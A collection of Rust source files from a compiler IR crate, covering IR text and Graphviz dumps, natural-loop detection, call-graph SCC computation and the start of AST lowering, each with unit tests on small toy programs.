        assert_eq!(f.alloc_local(), LocalId(0));
        assert_eq!(f.alloc_local(), LocalId(1));
        assert_eq!(f.local_count, 2);
    }

    #[test]
    fn push_block_returns_sequential_ids() {
        let mut f = empty_func("main");
        let b = f.push_block(BasicBlock {
            instrs: vec![],
            term: Terminator::Return(None),
        });
        assert_eq!(b, BlockId(1));
        assert_eq!(f.blocks.len(), 2);
    }
}
