//! Human-readable IR dumps (for debugging, tests, and documentation).

use crate::instr::{Const, Instr, Terminator};
use crate::program::{FuncBody, IrProgram};
use std::fmt::Write as _;

/// Renders a whole program as text.
pub fn program_to_string(program: &IrProgram) -> String {
    let mut out = String::new();
    for (name, init) in &program.globals {
        let _ = writeln!(out, "global {name} = {}", const_str(init));
    }
    for (id, func) in program.iter_funcs() {
        let _ = writeln!(out, "func {id} {}:", func.name);
        out.push_str(&func_to_string(func));
    }
    out
}

/// Renders one function as text.
pub fn func_to_string(func: &FuncBody) -> String {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "  params={} locals={} sites={} loops={}",
        func.param_count, func.local_count, func.site_count, func.loop_count
    );
    for b in func.block_ids() {
        let marker = if b == func.entry { " (entry)" } else { "" };
        let _ = writeln!(out, "  {b}{marker}:");
        let block = func.block(b);
        for i in &block.instrs {
            let _ = writeln!(out, "    {}", instr_str(i));
        }
        let _ = writeln!(out, "    {}", term_str(&block.term));
    }
    out
}

fn const_str(c: &Const) -> String {
    match c {
        Const::Int(v) => v.to_string(),
        Const::Str(s) => format!("{s:?}"),
        Const::Array(elems) => {
            let inner: Vec<_> = elems.iter().map(const_str).collect();
            format!("[{}]", inner.join(", "))
        }
    }
}

fn instr_str(i: &Instr) -> String {
    match i {
        Instr::Const { dst, value } => format!("{dst} = const {}", const_str(value)),
        Instr::Copy { dst, src } => format!("{dst} = {src}"),
        Instr::LoadGlobal { dst, global } => format!("{dst} = load {global}"),
        Instr::StoreGlobal { global, src } => format!("store {global} = {src}"),
        Instr::StoreIndexGlobal { global, index, src } => {
            format!("store {global}[{index}] = {src}")
        }
        Instr::StoreIndexLocal { local, index, src } => format!("store {local}[{index}] = {src}"),
        Instr::Unary { dst, op, operand } => format!("{dst} = {op}{operand}"),
        Instr::Binary { dst, op, lhs, rhs } => format!("{dst} = {lhs} {op} {rhs}"),
        Instr::Index { dst, base, index } => format!("{dst} = {base}[{index}]"),
        Instr::MakeArray { dst, elems } => {
            let inner: Vec<_> = elems.iter().map(|e| e.to_string()).collect();
            format!("{dst} = [{}]", inner.join(", "))
        }
        Instr::FuncRef { dst, func } => format!("{dst} = &{func}"),
        Instr::Call {
            dst,
            func,
            args,
            site,
            fresh_frame,
        } => {
            let inner: Vec<_> = args.iter().map(|a| a.to_string()).collect();
            let fresh = if *fresh_frame { " [fresh]" } else { "" };
            format!("{dst} = call {func}({}) @{site}{fresh}", inner.join(", "))
        }
        Instr::CallIndirect {
            dst,
            callee,
            args,
            site,
        } => {
            let inner: Vec<_> = args.iter().map(|a| a.to_string()).collect();
            format!("{dst} = icall {callee}({}) @{site}", inner.join(", "))
        }
        Instr::CallLib { dst, lib, args } => {
            let inner: Vec<_> = args.iter().map(|a| a.to_string()).collect();
            format!("{dst} = lib {lib}({})", inner.join(", "))
        }
        Instr::Syscall {
            dst,
            sys,
            args,
            site,
        } => {
            let inner: Vec<_> = args.iter().map(|a| a.to_string()).collect();
            format!("{dst} = syscall {sys}({}) @{site}", inner.join(", "))
        }
        Instr::CntAdd { delta } => format!("cnt += {delta}"),
        Instr::LoopEnter { loop_id } => format!("loop_enter {loop_id}"),
        Instr::LoopBackedge { loop_id, sub } => format!("loop_backedge {loop_id} cnt -= {sub}"),
        Instr::LoopExit { loop_id, add } => format!("loop_exit {loop_id} cnt += {add}"),
    }
}

fn term_str(t: &Terminator) -> String {
    match t {
        Terminator::Jump(b) => format!("jump {b}"),
        Terminator::Branch {
            cond,
            then_bb,
            else_bb,
        } => format!("branch {cond} ? {then_bb} : {else_bb}"),
        Terminator::Return(Some(v)) => format!("return {v}"),
        Terminator::Return(None) => "return".to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lower;
    use ldx_lang::compile;

    #[test]
    fn dump_contains_structure() {
        let p = lower(
            &compile(
                r#"
                global g = 3;
                fn main() {
                    let fd = open("f", 0);
                    if (g) { write(fd, "x"); }
                    close(fd);
                }
                "#,
            )
            .unwrap(),
        );
        let text = program_to_string(&p);
        assert!(text.contains("global g = 3"));
        assert!(text.contains("syscall open"));
        assert!(text.contains("branch"));
        assert!(text.contains("(entry)"));
    }

    #[test]
    fn dump_is_nonempty_for_every_instr_kind_we_emit() {
        let p = lower(
            &compile(
                r#"
                global arr = [1, 2];
                fn h(x) { return x; }
                fn main() {
                    let a = [1, 2, 3];
                    a[0] = -a[1];
                    arr[0] = 5;
                    let f = &h;
                    let y = f(1) + h(2) + len("s");
                    let z = y == 2 || y != 3;
                }
                "#,
            )
            .unwrap(),
        );
        let text = program_to_string(&p);
        for needle in ["icall", "call f", "lib len", "= &f", "store g0["] {
            assert!(text.contains(needle), "missing {needle} in dump:\n{text}");
        }
    }
}
