//! Human-readable IR dumps (for debugging, tests, and documentation).

use crate::instr::{Const, Instr, Terminator};
use crate::program::{FuncBody, IrProgram};
use std::fmt::Write as _;

/// Renders a whole program as text.
pub fn program_to_string(program: &IrProgram) -> String {
    let mut out = String::new();
    for (name, init) in &program.globals {
        let _ = writeln!(out, "global {name} = {}", const_str(init));
    }
    for (id, func) in program.iter_funcs() {
        let _ = writeln!(out, "func {id} {}:", func.name);
        out.push_str(&func_to_string(func));
    }
    out
}

/// Renders one function as text.
pub fn func_to_string(func: &FuncBody) -> String {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "  params={} locals={} sites={} loops={}",
        func.param_count, func.local_count, func.site_count, func.loop_count
    );
    for b in func.block_ids() {
        let marker = if b == func.entry { " (entry)" } else { "" };
        let _ = writeln!(out, "  {b}{marker}:");
        let block = func.block(b);
        for i in &block.instrs {
            let _ = writeln!(out, "    {}", instr_str(i));
        }
        let _ = writeln!(out, "    {}", term_str(&block.term));
    }
    out
}

/// Renders one function's CFG as a Graphviz digraph: one record-shaped
/// node per basic block (instructions as label lines), one edge per
/// control transfer, branch edges labeled `T`/`F`.
pub fn func_to_dot(func: &FuncBody) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "digraph {} {{", dot_id(&func.name));
    let _ = writeln!(out, "  node [shape=box, fontname=\"monospace\"];");
    for b in func.block_ids() {
        let block = func.block(b);
        let mut label = format!("{b}:");
        if b == func.entry {
            label.push_str(" (entry)");
        }
        for i in &block.instrs {
            label.push_str("\\l");
            label.push_str(&dot_escape(&instr_str(i)));
        }
        label.push_str("\\l");
        label.push_str(&dot_escape(&term_str(&block.term)));
        label.push_str("\\l");
        let _ = writeln!(out, "  {b} [label=\"{label}\"];");
        match &block.term {
            Terminator::Branch {
                then_bb, else_bb, ..
            } => {
                let _ = writeln!(out, "  {b} -> {then_bb} [label=\"T\"];");
                let _ = writeln!(out, "  {b} -> {else_bb} [label=\"F\"];");
            }
            term => {
                for s in term.successors() {
                    let _ = writeln!(out, "  {b} -> {s};");
                }
            }
        }
    }
    out.push_str("}\n");
    out
}

/// Renders every function's CFG as one Graphviz digraph with a cluster
/// per function.
pub fn program_to_dot(program: &IrProgram) -> String {
    let mut out = String::from("digraph cfg {\n  node [shape=box, fontname=\"monospace\"];\n");
    for (id, func) in program.iter_funcs() {
        let _ = writeln!(out, "  subgraph cluster_{} {{", id.index());
        let _ = writeln!(out, "    label=\"{}\";", dot_escape(&func.name));
        // Prefix node names with the function id: block ids restart at
        // b0 in every function.
        let node = |b: crate::BlockId| format!("{id}_{b}");
        for b in func.block_ids() {
            let block = func.block(b);
            let mut label = format!("{b}:");
            if b == func.entry {
                label.push_str(" (entry)");
            }
            for i in &block.instrs {
                label.push_str("\\l");
                label.push_str(&dot_escape(&instr_str(i)));
            }
            label.push_str("\\l");
            label.push_str(&dot_escape(&term_str(&block.term)));
            label.push_str("\\l");
            let _ = writeln!(out, "    {} [label=\"{label}\"];", node(b));
            match &block.term {
                Terminator::Branch {
                    then_bb, else_bb, ..
                } => {
                    let _ = writeln!(out, "    {} -> {} [label=\"T\"];", node(b), node(*then_bb));
                    let _ = writeln!(out, "    {} -> {} [label=\"F\"];", node(b), node(*else_bb));
                }
                term => {
                    for s in term.successors() {
                        let _ = writeln!(out, "    {} -> {};", node(b), node(s));
                    }
                }
            }
        }
        out.push_str("  }\n");
    }
    out.push_str("}\n");
    out
}

/// Escapes text for use inside a double-quoted DOT label.
fn dot_escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

/// A DOT identifier for a function name: alphanumerics pass through,
/// everything else becomes `_`.
fn dot_id(name: &str) -> String {
    let cleaned: String = name
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
        .collect();
    if cleaned.chars().next().is_none_or(|c| c.is_ascii_digit()) {
        format!("f_{cleaned}")
    } else {
        cleaned
    }
}

fn const_str(c: &Const) -> String {
    match c {
        Const::Int(v) => v.to_string(),
        Const::Str(s) => format!("{s:?}"),
        Const::Array(elems) => {
            let inner: Vec<_> = elems.iter().map(const_str).collect();
            format!("[{}]", inner.join(", "))
        }
    }
}

fn instr_str(i: &Instr) -> String {
    match i {
        Instr::Const { dst, value } => format!("{dst} = const {}", const_str(value)),
        Instr::Copy { dst, src } => format!("{dst} = {src}"),
        Instr::LoadGlobal { dst, global } => format!("{dst} = load {global}"),
        Instr::StoreGlobal { global, src } => format!("store {global} = {src}"),
        Instr::StoreIndexGlobal { global, index, src } => {
            format!("store {global}[{index}] = {src}")
        }
        Instr::StoreIndexLocal { local, index, src } => format!("store {local}[{index}] = {src}"),
        Instr::Unary { dst, op, operand } => format!("{dst} = {op}{operand}"),
        Instr::Binary { dst, op, lhs, rhs } => format!("{dst} = {lhs} {op} {rhs}"),
        Instr::Index { dst, base, index } => format!("{dst} = {base}[{index}]"),
        Instr::MakeArray { dst, elems } => {
            let inner: Vec<_> = elems.iter().map(|e| e.to_string()).collect();
            format!("{dst} = [{}]", inner.join(", "))
        }
        Instr::FuncRef { dst, func } => format!("{dst} = &{func}"),
        Instr::Call {
            dst,
            func,
            args,
            site,
            fresh_frame,
        } => {
            let inner: Vec<_> = args.iter().map(|a| a.to_string()).collect();
            let fresh = if *fresh_frame { " [fresh]" } else { "" };
            format!("{dst} = call {func}({}) @{site}{fresh}", inner.join(", "))
        }
        Instr::CallIndirect {
            dst,
            callee,
            args,
            site,
        } => {
            let inner: Vec<_> = args.iter().map(|a| a.to_string()).collect();
            format!("{dst} = icall {callee}({}) @{site}", inner.join(", "))
        }
        Instr::CallLib { dst, lib, args } => {
            let inner: Vec<_> = args.iter().map(|a| a.to_string()).collect();
            format!("{dst} = lib {lib}({})", inner.join(", "))
        }
        Instr::Syscall {
            dst,
            sys,
            args,
            site,
        } => {
            let inner: Vec<_> = args.iter().map(|a| a.to_string()).collect();
            format!("{dst} = syscall {sys}({}) @{site}", inner.join(", "))
        }
        Instr::CntAdd { delta } => format!("cnt += {delta}"),
        Instr::LoopEnter { loop_id } => format!("loop_enter {loop_id}"),
        Instr::LoopBackedge { loop_id, sub } => format!("loop_backedge {loop_id} cnt -= {sub}"),
        Instr::LoopExit { loop_id, add } => format!("loop_exit {loop_id} cnt += {add}"),
    }
}

fn term_str(t: &Terminator) -> String {
    match t {
        Terminator::Jump(b) => format!("jump {b}"),
        Terminator::Branch {
            cond,
            then_bb,
            else_bb,
        } => format!("branch {cond} ? {then_bb} : {else_bb}"),
        Terminator::Return(Some(v)) => format!("return {v}"),
        Terminator::Return(None) => "return".to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lower;
    use ldx_lang::compile;

    #[test]
    fn dump_contains_structure() {
        let p = lower(
            &compile(
                r#"
                global g = 3;
                fn main() {
                    let fd = open("f", 0);
                    if (g) { write(fd, "x"); }
                    close(fd);
                }
                "#,
            )
            .unwrap(),
        );
        let text = program_to_string(&p);
        assert!(text.contains("global g = 3"));
        assert!(text.contains("syscall open"));
        assert!(text.contains("branch"));
        assert!(text.contains("(entry)"));
    }

    #[test]
    fn dump_is_nonempty_for_every_instr_kind_we_emit() {
        let p = lower(
            &compile(
                r#"
                global arr = [1, 2];
                fn h(x) { return x; }
                fn main() {
                    let a = [1, 2, 3];
                    a[0] = -a[1];
                    arr[0] = 5;
                    let f = &h;
                    let y = f(1) + h(2) + len("s");
                    let z = y == 2 || y != 3;
                }
                "#,
            )
            .unwrap(),
        );
        let text = program_to_string(&p);
        for needle in ["icall", "call f", "lib len", "= &f", "store g0["] {
            assert!(text.contains(needle), "missing {needle} in dump:\n{text}");
        }
    }

    #[test]
    fn cfg_dot_has_blocks_and_labeled_branch_edges() {
        let p = lower(
            &compile(
                r#"fn main() {
                    let x = getpid();
                    if (x > 0) { write(1, "a"); } else { write(1, "b"); }
                    close(1);
                }"#,
            )
            .unwrap(),
        );
        let dot = func_to_dot(p.func(p.main()));
        assert!(dot.starts_with("digraph main {"));
        assert!(dot.ends_with("}\n"));
        assert!(dot.contains("(entry)"));
        assert!(dot.contains("[label=\"T\"]"), "branch edges are labeled");
        assert!(dot.contains("[label=\"F\"]"));
        assert!(dot.contains("syscall write"));
        // One node line per block.
        let nodes = dot.lines().filter(|l| l.contains("[label=\"b")).count();
        assert_eq!(nodes, p.func(p.main()).blocks.len());
    }

    #[test]
    fn program_dot_clusters_every_function_with_unique_nodes() {
        let p = lower(
            &compile(
                r#"
                fn helper(x) { return x + 1; }
                fn main() { let y = helper(2); }
                "#,
            )
            .unwrap(),
        );
        let dot = program_to_dot(&p);
        assert!(dot.starts_with("digraph cfg {"));
        assert!(dot.contains("subgraph cluster_0"));
        assert!(dot.contains("subgraph cluster_1"));
        assert!(dot.contains("label=\"helper\""));
        assert!(dot.contains("label=\"main\""));
        // Node names are function-qualified, so the two entry blocks do
        // not collide.
        assert!(dot.contains("f0_b0"));
        assert!(dot.contains("f1_b0"));
    }

    #[test]
    fn dot_labels_escape_quotes() {
        let p = lower(&compile(r#"fn main() { write(1, "say \"hi\""); }"#).unwrap());
        let dot = func_to_dot(p.func(p.main()));
        // The text dump renders the constant as `"say \"hi\""`; DOT
        // escaping doubles every backslash and escapes the quotes.
        assert!(
            dot.contains(r#"\\\"hi\\\""#),
            "quotes inside labels escaped:\n{dot}"
        );
    }
}
