//! Natural-loop detection.
//!
//! Paper Algorithm 3 instruments loops by manipulating three edge sets:
//! back edges (barrier + counter reset), exit edges (counter raise), and
//! the entry edges into the header. This module computes those sets from
//! the dominator tree: an edge `u -> h` is a back edge when `h` dominates
//! `u`; the natural loop of `h` is everything that reaches a back-edge
//! source without passing through `h`.

use crate::cfg::predecessors;
use crate::dom::Dominators;
use crate::program::{BlockId, FuncBody};
use std::collections::BTreeSet;

/// One natural loop.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NaturalLoop {
    /// The loop header (the unique entry point).
    pub header: BlockId,
    /// All blocks in the loop, including the header.
    pub body: BTreeSet<BlockId>,
    /// Sources of back edges (`u` such that `u -> header` is a back edge).
    pub latches: Vec<BlockId>,
    /// Edges `(u, v)` with `u` inside the loop and `v` outside.
    pub exit_edges: Vec<(BlockId, BlockId)>,
    /// Edges `(u, header)` with `u` outside the loop (the entry edges).
    pub entry_edges: Vec<(BlockId, BlockId)>,
}

impl NaturalLoop {
    /// Whether `b` belongs to the loop.
    pub fn contains(&self, b: BlockId) -> bool {
        self.body.contains(&b)
    }
}

/// All natural loops of a function, ordered by header block id.
///
/// Loops sharing a header are merged (standard practice); distinct loops
/// are either disjoint or properly nested, because lowering produces
/// reducible CFGs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LoopForest {
    loops: Vec<NaturalLoop>,
}

impl LoopForest {
    /// Detects the natural loops of `func`.
    pub fn compute(func: &FuncBody) -> Self {
        let doms = Dominators::compute(func);
        let preds = predecessors(func);

        // Group back edges by header.
        let mut by_header: Vec<(BlockId, Vec<BlockId>)> = Vec::new();
        for u in func.block_ids() {
            for h in func.block(u).term.successors() {
                if doms.dominates(h, u) {
                    match by_header.iter_mut().find(|(hh, _)| *hh == h) {
                        Some((_, latches)) => latches.push(u),
                        None => by_header.push((h, vec![u])),
                    }
                }
            }
        }
        by_header.sort_by_key(|(h, _)| *h);

        let loops = by_header
            .into_iter()
            .map(|(header, latches)| {
                // Natural loop body: reverse reachability from the latches
                // without passing through the header.
                let mut body: BTreeSet<BlockId> = BTreeSet::new();
                body.insert(header);
                let mut stack: Vec<BlockId> = latches.clone();
                while let Some(b) = stack.pop() {
                    if body.insert(b) {
                        for &p in &preds[b.index()] {
                            stack.push(p);
                        }
                    }
                }
                let mut exit_edges = Vec::new();
                for &u in &body {
                    for v in func.block(u).term.successors() {
                        if !body.contains(&v) {
                            exit_edges.push((u, v));
                        }
                    }
                }
                let entry_edges = preds[header.index()]
                    .iter()
                    .filter(|p| !body.contains(p))
                    .map(|&p| (p, header))
                    .collect();
                NaturalLoop {
                    header,
                    body,
                    latches,
                    exit_edges,
                    entry_edges,
                }
            })
            .collect();
        LoopForest { loops }
    }

    /// The detected loops, ordered by header id.
    pub fn loops(&self) -> &[NaturalLoop] {
        &self.loops
    }

    /// The innermost loop containing `b`, if any.
    pub fn innermost_containing(&self, b: BlockId) -> Option<&NaturalLoop> {
        self.loops
            .iter()
            .filter(|l| l.contains(b))
            .min_by_key(|l| l.body.len())
    }

    /// Whether edge `(u, v)` is a back edge of some loop.
    pub fn is_back_edge(&self, u: BlockId, v: BlockId) -> bool {
        self.loops
            .iter()
            .any(|l| l.header == v && l.latches.contains(&u))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lower;
    use ldx_lang::compile;

    fn lower_main(src: &str) -> FuncBody {
        let p = lower(&compile(src).unwrap());
        let id = p.main();
        p.func(id).clone()
    }

    #[test]
    fn straight_line_has_no_loops() {
        let f = lower_main("fn main() { let x = 1; if (x) { x = 2; } }");
        assert!(LoopForest::compute(&f).loops().is_empty());
    }

    #[test]
    fn while_loop_detected_with_header_latch_exit() {
        let f = lower_main("fn main() { let i = 0; while (i < 3) { i = i + 1; } }");
        let forest = LoopForest::compute(&f);
        assert_eq!(forest.loops().len(), 1);
        let l = &forest.loops()[0];
        let header = f.block(f.entry).term.successors()[0];
        assert_eq!(l.header, header);
        assert_eq!(l.latches.len(), 1);
        assert_eq!(l.body.len(), 2); // header + body block
        assert_eq!(l.exit_edges.len(), 1);
        assert_eq!(l.exit_edges[0].0, header);
        assert_eq!(l.entry_edges, vec![(f.entry, header)]);
        assert!(forest.is_back_edge(l.latches[0], header));
    }

    #[test]
    fn for_loop_latch_is_step_block() {
        let f = lower_main("fn main() { for (let i = 0; i < 3; i = i + 1) { let z = i; } }");
        let forest = LoopForest::compute(&f);
        let l = &forest.loops()[0];
        // Body: header + body block + step block.
        assert_eq!(l.body.len(), 3);
        assert_eq!(l.latches.len(), 1);
    }

    #[test]
    fn nested_loops_are_properly_nested() {
        let f = lower_main(
            r#"fn main() {
                let n = 3;
                for (let i = 0; i < n; i = i + 1) {
                    let j = 0;
                    while (j < n) { j = j + 1; }
                }
            }"#,
        );
        let forest = LoopForest::compute(&f);
        assert_eq!(forest.loops().len(), 2);
        let (a, b) = (&forest.loops()[0], &forest.loops()[1]);
        let (outer, inner) = if a.body.len() > b.body.len() {
            (a, b)
        } else {
            (b, a)
        };
        for blk in &inner.body {
            assert!(outer.contains(*blk), "inner loop must be inside outer");
        }
        assert_ne!(outer.header, inner.header);
    }

    #[test]
    fn break_adds_second_exit_edge() {
        let f = lower_main(
            r#"fn main() {
                let i = 0;
                while (i < 10) {
                    if (i == 3) { break; }
                    i = i + 1;
                }
            }"#,
        );
        let forest = LoopForest::compute(&f);
        let l = &forest.loops()[0];
        assert_eq!(l.exit_edges.len(), 2, "header exit + break exit");
        // Every exit edge leaves the body. (Note: the `break` arm itself is
        // *outside* the natural loop — it cannot reach the latch — so the
        // two exits target different blocks.)
        for (u, v) in &l.exit_edges {
            assert!(l.contains(*u));
            assert!(!l.contains(*v));
        }
    }

    #[test]
    fn continue_in_while_adds_second_backedge() {
        let f = lower_main(
            r#"fn main() {
                let i = 0;
                while (i < 10) {
                    i = i + 1;
                    if (i == 3) { continue; }
                    i = i + 2;
                }
            }"#,
        );
        let forest = LoopForest::compute(&f);
        let l = &forest.loops()[0];
        assert_eq!(l.latches.len(), 2, "normal latch + continue latch");
    }

    #[test]
    fn innermost_containing_picks_smaller_loop() {
        let f = lower_main(
            r#"fn main() {
                let n = 3;
                let i = 0;
                while (i < n) {
                    let j = 0;
                    while (j < n) { j = j + 1; }
                    i = i + 1;
                }
            }"#,
        );
        let forest = LoopForest::compute(&f);
        let inner = forest.loops().iter().min_by_key(|l| l.body.len()).unwrap();
        let got = forest.innermost_containing(inner.header).unwrap();
        assert_eq!(got.header, inner.header);
    }
}
