//! Call graph construction and strongly connected components.
//!
//! Paper Algorithm 1 instruments functions "in the reverse topological
//! order of the call graph" so that every callee's total counter increment
//! (`FCNT`) is known before its callers are processed. Recursion makes
//! that order undefined, so LDX gives recursive calls a fresh counter
//! frame (like indirect calls, §5–6); we identify recursion as call-graph
//! cycles via Tarjan's SCC algorithm.

use crate::instr::Instr;
use crate::program::{FuncId, IrProgram};
use std::collections::BTreeSet;

/// The direct-call graph of a program.
#[derive(Debug, Clone)]
pub struct CallGraph {
    /// `callees[f]`: the set of functions `f` calls directly.
    callees: Vec<BTreeSet<FuncId>>,
    /// SCC index per function; SCCs are numbered in *reverse topological*
    /// order (callees before callers), which is exactly the processing
    /// order Algorithm 1 needs.
    scc_of: Vec<usize>,
    /// Members of each SCC.
    scc_members: Vec<Vec<FuncId>>,
}

impl CallGraph {
    /// Builds the call graph of `program` (direct calls only; indirect
    /// calls do not contribute edges because their counter effect is
    /// handled dynamically via fresh frames).
    pub fn compute(program: &IrProgram) -> Self {
        let n = program.functions.len();
        let mut callees = vec![BTreeSet::new(); n];
        for (id, func) in program.iter_funcs() {
            for (_, instr) in func.instrs() {
                if let Instr::Call { func: callee, .. } = instr {
                    callees[id.index()].insert(*callee);
                }
            }
        }
        let (scc_of, scc_members) = tarjan(n, &callees);
        CallGraph {
            callees,
            scc_of,
            scc_members,
        }
    }

    /// Direct callees of `f`.
    pub fn callees(&self, f: FuncId) -> &BTreeSet<FuncId> {
        &self.callees[f.index()]
    }

    /// The functions of each SCC, in reverse topological order of the
    /// condensation (every SCC appears after all SCCs it calls into).
    pub fn sccs_reverse_topological(&self) -> &[Vec<FuncId>] {
        &self.scc_members
    }

    /// Whether `f` participates in recursion (its SCC has more than one
    /// member, or it calls itself directly).
    pub fn is_recursive(&self, f: FuncId) -> bool {
        self.scc_members[self.scc_of[f.index()]].len() > 1 || self.callees[f.index()].contains(&f)
    }

    /// Whether a direct call from `caller` to `callee` is a *recursive*
    /// call (stays within one SCC). Such calls get fresh counter frames.
    pub fn is_recursive_call(&self, caller: FuncId, callee: FuncId) -> bool {
        self.scc_of[caller.index()] == self.scc_of[callee.index()]
            && (caller != callee || self.callees[caller.index()].contains(&caller))
    }

    /// Functions in an order where callees precede callers whenever they
    /// are in different SCCs (flattened reverse-topological SCC order).
    pub fn reverse_topological_functions(&self) -> Vec<FuncId> {
        self.scc_members.iter().flatten().copied().collect()
    }
}

/// Iterative Tarjan SCC; returns `(scc_of, members)` with SCCs numbered in
/// reverse topological order.
fn tarjan(n: usize, adj: &[BTreeSet<FuncId>]) -> (Vec<usize>, Vec<Vec<FuncId>>) {
    const UNSET: usize = usize::MAX;
    let mut index = vec![UNSET; n];
    let mut lowlink = vec![0usize; n];
    let mut on_stack = vec![false; n];
    let mut stack: Vec<usize> = Vec::new();
    let mut next_index = 0usize;
    let mut scc_of = vec![UNSET; n];
    let mut members: Vec<Vec<FuncId>> = Vec::new();

    // Explicit DFS stack: (node, iterator position, parent-entry marker).
    for start in 0..n {
        if index[start] != UNSET {
            continue;
        }
        let mut call_stack: Vec<(usize, Vec<usize>, usize)> = Vec::new();
        let succs: Vec<usize> = adj[start].iter().map(|f| f.index()).collect();
        index[start] = next_index;
        lowlink[start] = next_index;
        next_index += 1;
        stack.push(start);
        on_stack[start] = true;
        call_stack.push((start, succs, 0));

        while let Some((v, succs, i)) = call_stack.last_mut() {
            if *i < succs.len() {
                let w = succs[*i];
                *i += 1;
                if index[w] == UNSET {
                    index[w] = next_index;
                    lowlink[w] = next_index;
                    next_index += 1;
                    stack.push(w);
                    on_stack[w] = true;
                    let wsuccs: Vec<usize> = adj[w].iter().map(|f| f.index()).collect();
                    call_stack.push((w, wsuccs, 0));
                } else if on_stack[w] {
                    let v = *v;
                    lowlink[v] = lowlink[v].min(index[w]);
                }
            } else {
                let v = *v;
                call_stack.pop();
                if let Some((parent, _, _)) = call_stack.last() {
                    let p = *parent;
                    lowlink[p] = lowlink[p].min(lowlink[v]);
                }
                if lowlink[v] == index[v] {
                    // Root of an SCC: pop members. Tarjan emits SCCs in
                    // reverse topological order already.
                    let scc_id = members.len();
                    let mut group = Vec::new();
                    loop {
                        let w = stack.pop().expect("tarjan stack underflow");
                        on_stack[w] = false;
                        scc_of[w] = scc_id;
                        group.push(FuncId(w as u32));
                        if w == v {
                            break;
                        }
                    }
                    group.reverse();
                    members.push(group);
                }
            }
        }
    }
    (scc_of, members)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lower;
    use ldx_lang::compile;

    fn graph(src: &str) -> (IrProgram, CallGraph) {
        let p = lower(&compile(src).unwrap());
        let g = CallGraph::compute(&p);
        (p, g)
    }

    #[test]
    fn simple_chain_orders_callees_first() {
        let (p, g) = graph(
            r#"
            fn c() { return 1; }
            fn b() { return c(); }
            fn a() { return b(); }
            fn main() { a(); }
            "#,
        );
        let order = g.reverse_topological_functions();
        let pos = |name: &str| {
            let id = p.func_id(name).unwrap();
            order.iter().position(|&f| f == id).unwrap()
        };
        assert!(pos("c") < pos("b"));
        assert!(pos("b") < pos("a"));
        assert!(pos("a") < pos("main"));
    }

    #[test]
    fn no_function_is_recursive_without_cycles() {
        let (p, g) = graph("fn f() { return 1; } fn main() { f(); }");
        assert!(!g.is_recursive(p.func_id("f").unwrap()));
        assert!(!g.is_recursive(p.main()));
    }

    #[test]
    fn self_recursion_detected() {
        let (p, g) = graph(
            r#"
            fn fact(n) { if (n <= 1) { return 1; } return n * fact(n - 1); }
            fn main() { fact(5); }
            "#,
        );
        let fact = p.func_id("fact").unwrap();
        assert!(g.is_recursive(fact));
        assert!(g.is_recursive_call(fact, fact));
        assert!(!g.is_recursive_call(p.main(), fact));
    }

    #[test]
    fn mutual_recursion_detected() {
        let (p, g) = graph(
            r#"
            fn even(n) { if (n == 0) { return 1; } return odd(n - 1); }
            fn odd(n) { if (n == 0) { return 0; } return even(n - 1); }
            fn main() { even(4); }
            "#,
        );
        let even = p.func_id("even").unwrap();
        let odd = p.func_id("odd").unwrap();
        assert!(g.is_recursive(even));
        assert!(g.is_recursive(odd));
        assert!(g.is_recursive_call(even, odd));
        assert!(g.is_recursive_call(odd, even));
        assert!(!g.is_recursive_call(p.main(), even));
        // The SCC {even, odd} must precede main's SCC.
        let sccs = g.sccs_reverse_topological();
        let even_scc = sccs.iter().position(|s| s.contains(&even)).unwrap();
        let main_scc = sccs.iter().position(|s| s.contains(&p.main())).unwrap();
        assert!(even_scc < main_scc);
        assert_eq!(sccs[even_scc].len(), 2);
    }

    #[test]
    fn callees_recorded() {
        let (p, g) = graph(
            r#"
            fn x() { return 0; }
            fn y() { return 0; }
            fn main() { x(); y(); x(); }
            "#,
        );
        let mains = g.callees(p.main());
        assert_eq!(mains.len(), 2);
        assert!(mains.contains(&p.func_id("x").unwrap()));
    }

    #[test]
    fn indirect_calls_do_not_create_edges() {
        let (p, g) = graph(
            r#"
            fn t(v) { return v; }
            fn main() { let f = &t; f(1); }
            "#,
        );
        assert!(g.callees(p.main()).is_empty());
    }

    #[test]
    fn diamond_call_graph_topological() {
        let (p, g) = graph(
            r#"
            fn d() { return 1; }
            fn b() { return d(); }
            fn c() { return d(); }
            fn main() { b(); c(); }
            "#,
        );
        let order = g.reverse_topological_functions();
        let pos = |name: &str| {
            let id = p.func_id(name).unwrap();
            order.iter().position(|&f| f == id).unwrap()
        };
        assert!(pos("d") < pos("b"));
        assert!(pos("d") < pos("c"));
        assert!(pos("b") < pos("main"));
        assert!(pos("c") < pos("main"));
    }
}
