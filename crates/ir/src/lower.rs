//! Lowering from the resolved Lx AST to the CFG IR.
//!
//! Lowering is syntax-directed and produces a *reducible* CFG: every loop in
//! the output is a natural loop whose header is the condition block, which
//! is what the paper's Algorithm 3 assumes. Short-circuiting `&&`/`||`
//! become explicit diamonds, `for` loops desugar to `while` loops with the
//! step in a dedicated latch block (so `continue` re-runs the step), and
//! unreachable blocks (e.g. after `return`) are pruned so that later CFG
//! analyses see only real control flow.

use crate::instr::{BasicBlock, Const, Instr, Terminator};
use crate::program::{BlockId, FuncBody, FuncId, GlobalId, IrProgram, LocalId, SiteId};
use ldx_lang::{
    builtin, BinaryOp, Block, BuiltinKind, Expr, ExprKind, LValue, ResolvedProgram, Stmt, StmtKind,
    UnaryOp,
};
use std::collections::HashMap;

/// Lowers a resolved program to IR.
///
/// # Panics
///
/// Panics only on internal invariant violations; every user-visible error is
/// rejected earlier by [`ldx_lang::resolve`].
pub fn lower(resolved: &ResolvedProgram) -> IrProgram {
    let program = resolved.program();

    let globals: Vec<(String, Const)> = program
        .globals()
        .map(|(name, init)| (name.to_string(), const_eval(init)))
        .collect();
    let global_ids: HashMap<&str, GlobalId> = globals
        .iter()
        .enumerate()
